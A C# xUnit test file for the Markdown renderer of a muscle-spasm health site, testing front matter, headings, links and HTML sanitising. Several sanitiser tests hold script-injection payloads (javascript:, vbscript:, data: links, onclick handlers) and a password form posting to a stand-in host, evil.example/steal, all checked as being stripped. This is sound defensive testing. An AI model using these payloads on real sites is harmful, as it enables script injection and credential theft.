using MuscleSpasmInfo.Content.Markdown;

namespace MuscleSpasmInfo.Content.Tests.Markdown;

public sealed class MarkdownRendererTests
{
    private static readonly MarkdownRenderer Renderer = new();

    [Fact]
    public void Front_matter_is_taken_out_of_the_body_and_located_on_its_first_yaml_line()
    {
        var rendered = Renderer.Render("---\ntitle: T\ndate: 2024-01-01\n---\n\nBody text.\n", "a.md");

        Assert.Equal("title: T\ndate: 2024-01-01", rendered.FrontMatterYaml?.ReplaceLineEndings("\n"));
        Assert.Equal(2, rendered.FrontMatterFirstLine);
        Assert.Equal("<p>Body text.</p>\n", rendered.Html);
    }

    [Fact]
    public void A_file_without_front_matter_has_no_yaml()
    {
        var rendered = Renderer.Render("Just text.\n", "a.md");

        Assert.Null(rendered.FrontMatterYaml);
    }

    [Fact]
    public void Headings_are_listed_with_their_anchor_ids_and_file_lines()
    {
        var rendered = Renderer.Render("---\ntitle: T\n---\n\n# Top\n\n## Why it *matters*\n", "a.md");

        Assert.Equal(
            [new Heading(2, "Top", "top", 5), new Heading(2, "Why it matters", "why-it-matters", 7)],
            rendered.Headings);
    }

    [Fact]
    public void Links_and_images_are_listed_with_their_lines_and_columns()
    {
        var rendered = Renderer.Render("Intro.\n\nSee [overuse](/articles/muscle-overuse) and ![a leg](/media/leg.png).\n", "a.md");

        Assert.Equal(
            [
                new LinkReference("/articles/muscle-overuse", 3, 5, false),
                new LinkReference("/media/leg.png", 3, 45, true),
            ],
            rendered.Links);
    }

    [Fact]
    public void Plain_text_and_word_count_leave_the_markup_out()
    {
        var rendered = Renderer.Render("## Cramps\n\nSome **bold** words and a [link](/x).\n", "a.md");

        Assert.Equal("Cramps\nSome bold words and a link.\n", rendered.PlainText);
        Assert.Equal(7, rendered.WordCount);
    }

    [Fact]
    public void Safe_markdown_has_no_sanitiser_findings()
    {
        var rendered = Renderer.Render("Text with a [link](https://www.nhs.uk/) and *emphasis*.\n", "a.md");

        Assert.Empty(rendered.SanitiserFindings);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>", "<script>")]
    [InlineData("<div onclick=\"steal()\">x</div>", "attribute 'onclick'")]
    [InlineData("<p style=\"color:red\">x</p>", "attribute 'style'")]
    [InlineData("<iframe src=\"https://example.org\"></iframe>", "<iframe>")]
    public void Raw_html_the_sanitiser_changes_is_a_warning_on_its_line(string html, string removed)
    {
        // Arrange: the HTML is on line 3.
        var markdown = $"Intro.\n\n{html}\n";

        // Act
        var rendered = Renderer.Render(markdown, "a.md");

        // Assert
        var finding = Assert.Single(rendered.SanitiserFindings);
        Assert.Equal(Content.Checks.ContentChecks.RawHtml.At("a.md", 3, 1, $"raw HTML is not shown as written: the sanitiser removes {removed}"), finding);
    }

    [Theory]
    [InlineData("<form action=\"https://evil.example/steal\"><input type=\"password\"><button>Sign in</button></form>")]
    [InlineData("<button formaction=\"https://evil.example/\">Go</button>")]
    [InlineData("<isindex action=\"https://evil.example/\">")]
    [InlineData("<label>Card number <input name=\"card\"></label><textarea>x</textarea><select><option>1</option></select>")]
    public void Forms_and_form_controls_are_removed_so_an_article_cannot_post_anywhere(string html)
    {
        // Regression: HtmlSanitizer allows forms by default, so a content file could show a password box posting off-site.
        var rendered = Renderer.Render($"Intro.\n\n{html}\n", "a.md").Html;

        foreach (var tag in new[] { "<form", "<input", "<button", "<textarea", "<select", "<label", "action=" })
        {
            Assert.DoesNotContain(tag, rendered, StringComparison.OrdinalIgnoreCase);
        }
    }

    [Fact]
    public void Raw_html_the_sanitiser_keeps_is_shown_without_a_warning()
    {
        var rendered = Renderer.Render("Intro.\n\n<details><summary>More</summary>Hidden text.</details>\n", "a.md");

        Assert.Empty(rendered.SanitiserFindings);
        Assert.Contains("<details><summary>More</summary>Hidden text.</details>", rendered.Html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JavaScript:alert(1))")]
    [InlineData("[x](&#106;avascript:alert(1))")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD4=)")]
    [InlineData("[x](vbscript:msgbox(1))")]
    public void Links_with_unsafe_schemes_lose_their_target(string markdown)
    {
        var html = Renderer.Render(markdown + "\n", "a.md").Html;

        // The link text may still show the address (an autolink's text is its URL); only the target is dangerous.
        Assert.DoesNotContain("href", html, StringComparison.Ordinal);
        Assert.StartsWith("<p><a>", html, StringComparison.Ordinal);
    }

    [Fact]
    public void A_callout_title_is_html_encoded()
    {
        var html = Renderer.Render(":::urgent <b>Now</b> & then\nText.\n:::\n", "a.md").Html;

        Assert.Contains("<h2 class=\"callout-heading\">Urgent advice: &lt;b&gt;Now&lt;/b&gt; &amp; then</h2>", html, StringComparison.Ordinal);
    }

    [Fact]
    public void An_unknown_callout_kind_is_a_warning_naming_the_kinds_there_are()
    {
        var rendered = Renderer.Render("Intro.\n\n:::sidebar\nText.\n:::\n", "a.md");

        var finding = Assert.Single(rendered.SanitiserFindings);
        Assert.Equal((3, ProblemSeverity.Warning), (finding.Line, finding.Severity));
        Assert.Contains("unknown callout ':::sidebar'", finding.Message, StringComparison.Ordinal);
        Assert.Contains(":::urgent", finding.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Callouts_survive_sanitising_when_the_same_file_has_raw_html()
    {
        var html = Renderer.Render(":::emergency\nCall 999.\n:::\n\n<script>x</script>\n", "a.md").Html;

        Assert.Contains("<div class=\"callout callout-emergency\" role=\"note\"><h2 class=\"callout-heading\">Emergency advice</h2>", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Heading_ids_survive_sanitising()
    {
        var html = Renderer.Render("## Why it matters\n\n<span onclick=\"x()\">hi</span>\n", "a.md").Html;

        Assert.Contains("<h2 id=\"why-it-matters\">", html, StringComparison.Ordinal);
        Assert.DoesNotContain("onclick", html, StringComparison.Ordinal);
    }

    [Fact]
    public void One_renderer_gives_the_same_html_when_shared_across_threads()
    {
        var markdown = ":::info\nShared.\n:::\n\n## Heading\n\nText with <em>html</em>.\n";
        var expected = Renderer.Render(markdown, "a.md").Html;

        var results = new string[64];
        Parallel.For(0, results.Length, i => results[i] = Renderer.Render(markdown, "a.md").Html);

        Assert.All(results, html => Assert.Equal(expected, html));
    }
}
